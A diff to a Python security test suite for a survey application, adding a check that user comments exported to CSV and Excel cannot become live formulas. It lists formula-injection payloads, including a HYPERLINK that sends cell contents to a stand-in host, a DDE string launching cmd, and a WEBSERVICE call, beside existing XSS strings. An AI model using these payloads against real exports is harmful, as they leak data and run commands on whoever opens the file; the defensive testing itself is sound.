@@ -1,7 +1,8 @@
-"""Attacks with what people type or upload, on the pages, mails and PDFs that are made of it."""
+"""Attacks with what people type or upload, on the pages, mails, PDFs and tables made of it."""
 
 from __future__ import annotations
 
+import csv
 import io
 import shutil
 import smtplib
@@ -15,18 +16,22 @@ from ruamel.yaml import YAML
 from ruamel.yaml.constructor import SafeConstructor
 from sqlalchemy.orm import Session
 from weasyprint import HTML
+from xlsxwriter import Workbook
 
 from questionnaires import loader
 from questionnaires.definition import Questionnaire
 from questionnaires.loader import QuestionnaireInvalid
 from reports.pdf import preview_html, preview_pdf
+from reports.preview import Preview
 from reports.release import Release
+from reports.tables import tables, to_csv, to_xlsx
 from survey import jobs
 from survey.errors import Refused
 from survey.keyring import Keyring
 from survey.services import ballots, people, sign_in
 from tests import factories
 from tests.conftest import NOW, Sink
+from tests.spreadsheet import formulas, worked_out
 from tests.visitor import Visitor
 
 MARKUP = (
@@ -34,6 +39,15 @@ MARKUP = (
     '<img src=x onerror="alert(1)">',
     "<svg/onload=alert(1)>",
     '"><b>bold</b>',
+)
+FORMULAS = (
+    '=HYPERLINK("http://eve.example.net/?"&A1;"more")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+WEBSERVICE(A1)",
+    "Well done;=1+1",
+    'Well done;"=1+1',
+    "Well done\r\n=1+1",
+    "http://eve.example.net/",
 )
 SECRET = "Unmistakable secret"
 LONGEST = 5_000
@@ -51,6 +65,9 @@ class Desk(Protocol):
 
     def pdf(self, typed: str) -> bytes:
         """Return a PDF with a comment in it."""
+
+    def tables(self, typed: str) -> tuple[bytes, bytes]:
+        """Return a table with a comment in it, as CSV and as a workbook."""
 
     def kept(self, typed: str) -> str:
         """Return a comment as it is kept for later; empty if it is refused."""
@@ -92,6 +109,15 @@ def request_from_the_pdf(desk: Desk) -> list[str]:
         f'<object data="{url}/object"></object>'
     )
     return list(desk.sink.paths)
+
+
+def formula_in_a_table(desk: Desk) -> list[str]:
+    """A comment becomes a formula that sends the cells beside it elsewhere."""
+    found = []
+    for typed in FORMULAS:
+        as_csv, as_xlsx = desk.tables(typed)
+        found += worked_out(as_csv) + formulas(as_xlsx)
+    return found
 
 
 def tower_of_marks(desk: Desk) -> list[str]:
@@ -143,6 +169,7 @@ ATTACKS: tuple[Callable[[Desk], list[str]], ...] = (
     markup_in_a_page,
     file_in_the_pdf,
     request_from_the_pdf,
+    formula_in_a_table,
     tower_of_marks,
     word_without_end,
     invisible_letters,
@@ -167,6 +194,13 @@ class UsualDesk:
 
     def pdf(self, typed: str) -> bytes:
         return bytes(HTML(string=self.page(typed)).write_pdf())
+
+    def tables(self, typed: str) -> tuple[bytes, bytes]:
+        written, content = io.StringIO(newline=""), io.BytesIO()
+        csv.writer(written).writerows([("group", "comment"), ("peers", typed)])
+        with Workbook(content) as book:
+            book.add_worksheet().write_row(0, 0, ("peers", typed))
+        return written.getvalue().encode(), content.getvalue()
 
     def kept(self, typed: str) -> str:
         return typed
@@ -235,6 +269,11 @@ class ProductDesk:
 
     def pdf(self, typed: str) -> bytes:
         return preview_pdf(self._with(typed), self.questionnaire)
+
+    def tables(self, typed: str) -> tuple[bytes, bytes]:
+        preview = Preview(self._with(typed), self.questionnaire)
+        as_csv = b"".join(to_csv(table) for table in tables(preview).values())
+        return as_csv, to_xlsx(preview)
 
     def kept(self, typed: str) -> str:
         """Type into the real form, and read what is stored for the rater."""
